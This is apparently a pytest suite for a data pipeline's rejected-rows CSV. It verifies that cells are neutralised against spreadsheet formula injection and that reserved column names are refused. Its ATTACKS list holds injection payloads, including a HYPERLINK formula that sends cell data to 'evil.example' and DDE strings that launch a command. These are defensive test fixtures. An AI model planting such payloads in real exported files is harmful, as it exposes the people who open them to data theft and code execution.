"""The rejected-rows CSV: safe to open in a spreadsheet (no cell runs as a formula), every value
recoverable, and its own columns never clash with the file's."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.pipeline.normalize import OnInvalid, Outcome, UploadOptions, normalize
from backend.pipeline.rejected import for_spreadsheets, neutralise
from backend.pipeline.sniff import sniff_format
from backend.pipeline.sources.base import ReadError
from bench.generate_sales import HEADER, sales_rows
from tests.factories import xlsx_bytes

RISKY = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "\uff1d1+1",
]


def run(tmp_path: Path, content: bytes, *, datasource: str = "sales", **options: Any) -> Outcome:
    path = tmp_path / "upload"
    path.write_bytes(content)
    workdir = tmp_path / "work"
    workdir.mkdir(exist_ok=True)
    return normalize(
        path,
        sniff_format(content[:65536]),
        workdir,
        datasource=datasource,
        known_schema=None,
        options=UploadOptions(**options),
        uploaded_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
    )


def unquote(cell: str) -> str:
    """The documented way back: remove exactly one leading quote, if there is one."""
    return cell[1:] if cell.startswith("'") else cell


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def test_cells_a_spreadsheet_would_run_are_quoted_and_come_back_by_removing_one_quote(
    tmp_path: Path,
) -> None:
    rows = [list(r) for r in sales_rows(len(ATTACKS) + 1, 5)]
    for row, attack in zip(rows, ATTACKS, strict=False):
        row[HEADER.index("Branch")] = attack  # not A, B or C: the row is rejected
    rows[-1][HEADER.index("Quantity")] = "-5"  # rejected too, and a plain number
    frame = pl.DataFrame(rows, schema=HEADER, orient="row").with_columns(
        # An extra column (the sales schema ignores it; the rejected rows keep it).
        pl.Series("=1+2", [*ATTACKS, "-7"])
    )
    buffer = io.BytesIO()
    frame.write_parquet(buffer)  # Parquet: the values arrive exactly as written
    outcome = run(tmp_path, buffer.getvalue())

    assert outcome.rejected is not None
    written = pl.read_csv(outcome.rejected, infer_schema=False)
    assert written.columns == [*HEADER, "'=1+2", "_row", "_reason"]
    cells = [c for row in written.iter_rows() for c in row if c is not None]
    assert not [c for c in cells if c.startswith(RISKY) and not is_number(c)]
    assert [unquote(c) for c in written["Branch"].to_list()[: len(ATTACKS)]] == ATTACKS
    assert [unquote(c) for c in written["'=1+2"].to_list()] == [*ATTACKS, "-7"]
    assert written["Quantity"].to_list()[-1] == "-5"  # numbers stay numbers


@given(st.text())
def test_any_text_is_neutralised_the_same_way_by_both_paths_and_comes_back(text: str) -> None:
    cell = neutralise(text)
    assert unquote(cell) == text
    assert not cell.startswith(RISKY) or is_number(cell)
    frame = for_spreadsheets(pl.DataFrame({"v": [text]}))
    assert frame["v"].to_list() == [cell]


def test_a_file_with_columns_named_like_the_rejected_rows_own_keeps_them(
    tmp_path: Path,
) -> None:
    content = b"when,_row,_reason,n\n2024-01-01,a,b,1\n2024-01-02,c,d,x\n"
    known = run(tmp_path, b"when,_row,_reason,n\n2024-01-01,a,b,1\n", datasource="events").schema
    assert known is not None
    path = tmp_path / "again"
    path.write_bytes(content)
    outcome = normalize(
        path,
        sniff_format(content),
        tmp_path / "work",
        datasource="events",
        known_schema=known,
        options=UploadOptions(on_invalid=OnInvalid.SKIP, max_invalid_ratio=0.9),
        uploaded_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
    )
    assert outcome.failure is None and outcome.rejected is not None
    written = pl.read_csv(outcome.rejected, infer_schema=False)
    assert written.columns == ["when", "_row", "_reason", "n", "__row", "__reason"]
    assert written.row(0) == ("2024-01-02", "c", "d", "x", "3", "n must be a whole number")


def xlsx_of(text: str) -> bytes:
    return xlsx_bytes(rows=[line.split(",") for line in text.splitlines()])


@pytest.mark.parametrize(
    "name",
    [
        "__row",
        "__problem",
        "__idx",
        "__c:n",
        "__converted:n",
        "ingest_task_id",
        "__period",
        "__text:n",
    ],
)
@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet"])
def test_a_column_named_like_an_internal_one_is_refused(
    tmp_path: Path, name: str, kind: str
) -> None:
    text = f"when,{name},n\n2024-01-01,7,1\n2024-01-02,8,2\n"
    content = text.encode()
    if kind == "xlsx":
        content = xlsx_of(text)
    elif kind == "parquet":
        buffer = io.BytesIO()
        pl.read_csv(content).write_parquet(buffer)
        content = buffer.getvalue()
    with pytest.raises(ReadError, match="reserved for the service's own use"):
        run(tmp_path, content, datasource="events")


def test_a_carriage_return_inside_a_quoted_field_is_data(tmp_path: Path) -> None:
    outcome = run(tmp_path, b'when,note\n2024-01-01,"line one\rline two"\n', datasource="events")
    assert outcome.failure is None, outcome.failure
    assert outcome.report is not None and outcome.report.rows_valid == 1


@pytest.mark.parametrize("kind", ["xlsx", "parquet"])
def test_a_rejected_number_is_written_as_a_spreadsheet_shows_it(tmp_path: Path, kind: str) -> None:
    rows = [list(row) for row in sales_rows(5)]
    rows[1][HEADER.index("Unit price")] = "-5"
    rows[2][HEADER.index("Tax 5%")] = "999"
    rows[3][HEADER.index("Rating")] = "11"
    if kind == "xlsx":
        content = xlsx_bytes(rows=[HEADER, *rows])
    else:  # numbers as numbers, as a sheet's
        frame = pl.DataFrame(rows, schema=HEADER, orient="row")
        numbers = ["Unit price", "Tax 5%", "Total", "cogs", "gross income", "Rating"]
        frame = frame.with_columns(pl.col(numbers).cast(pl.Float64))
        buffer = io.BytesIO()
        frame.write_parquet(buffer)
        content = buffer.getvalue()
    outcome = run(tmp_path, content, on_invalid=OnInvalid.SKIP)
    assert outcome.rejected is not None
    rejected = pl.read_csv(outcome.rejected, infer_schema=False)
    assert rejected["Unit price"].to_list()[0] == "-5"
    assert rejected["Tax 5%"].to_list()[1] == "999"
    assert rejected["Rating"].to_list()[2] == "11"
